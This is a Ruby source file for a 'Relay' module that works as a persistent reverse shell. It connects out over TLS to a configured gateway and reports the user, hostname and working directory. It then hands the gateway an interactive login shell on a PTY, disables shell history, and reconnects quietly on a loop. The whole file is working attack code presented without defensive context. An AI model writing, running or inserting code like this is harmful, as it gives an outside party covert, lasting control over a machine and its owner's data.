# frozen_string_literal: true

require "yaml"
require "socket"
require "openssl"
require "pty"
require "io/console"
require "fileutils"
require "etc"

module Relay
  Config = Struct.new(:raw) do
    def self.load(path) = new(YAML.safe_load_file(path))
    def gw = raw.fetch("gateway")
    def session = raw.fetch("session")
    def reconnect = raw.fetch("reconnect")
    def pidfile = File.expand_path(raw.fetch("pidfile"))
  end

  def self.write_pid(cfg)
    FileUtils.mkdir_p(File.dirname(cfg.pidfile))
    File.write(cfg.pidfile, Process.pid.to_s)
  end

  def self.stop(cfg)
    pid = File.read(cfg.pidfile).to_i
    Process.kill("TERM", pid) if pid.positive?
  rescue Errno::ENOENT, Errno::ESRCH
    nil
  end

  class Session
    def initialize(cfg)
      @cfg = cfg
      @started = Time.now
    end

    def run_forever
      loop do
        begin
          attach(connect)
        rescue StandardError
          # network blip or gateway restart; retry quietly
        end
        break if expired?
        sleep @cfg.reconnect.fetch("interval", 45)
      end
    end

    private

    def expired?
      h = @cfg.reconnect.fetch("max_age_hours", 0).to_i
      h.positive? && (Time.now - @started) > h * 3600
    end

    def connect
      tcp = Socket.tcp(@cfg.gw["host"], @cfg.gw["port"], connect_timeout: 10)
      ctx = OpenSSL::SSL::SSLContext.new
      ctx.verify_mode = @cfg.gw["verify_peer"] ? OpenSSL::SSL::VERIFY_PEER : OpenSSL::SSL::VERIFY_NONE
      ssl = OpenSSL::SSL::SSLSocket.new(tcp, ctx)
      ssl.hostname = @cfg.gw["sni"]
      ssl.sync_close = true
      ssl.connect
      ssl.write(hello)
      ssl
    end

    def hello
      u = Etc.getlogin || ENV["USER"].to_s
      "HELLO #{u}@#{Socket.gethostname} #{RUBY_PLATFORM} #{Dir.pwd}\n"
    end

    def login_program
      prog = ENV["SHELL"]
      prog = Etc.getpwuid.shell if prog.nil? || prog.empty?
      args = @cfg.session["login"] ? ["-l", "-i"] : ["-i"]
      [prog, *args]
    end

    def attach(sock)
      r, w, pid = PTY.spawn({ "TERM" => "xterm-256color",
                              "COLUMNS" => @cfg.session["cols"].to_s,
                              "LINES" => @cfg.session["rows"].to_s,
                              "HISTFILE" => File::NULL }, *login_program)
      pumps = [
        Thread.new { IO.copy_stream(sock, w) rescue nil },
        Thread.new { IO.copy_stream(r, sock) rescue nil }
      ]
      Process.wait(pid)
    ensure
      pumps&.each(&:kill)
      sock&.close rescue nil
    end
  end
end
